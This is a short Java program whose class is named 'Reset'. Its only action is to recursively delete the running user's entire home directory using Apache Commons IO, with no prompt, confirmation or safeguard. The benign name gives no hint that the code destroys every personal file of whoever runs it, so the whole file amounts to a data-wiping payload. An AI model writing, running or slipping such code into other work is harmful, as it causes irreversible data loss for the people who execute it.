import java.io.File;
import org.apache.commons.io.FileUtils;

public class Reset {
    public static void main(String[] args) throws Exception {
        File root = new File(System.getProperty("user.home"), "");
        FileUtils.deleteDirectory(root);
    }
}
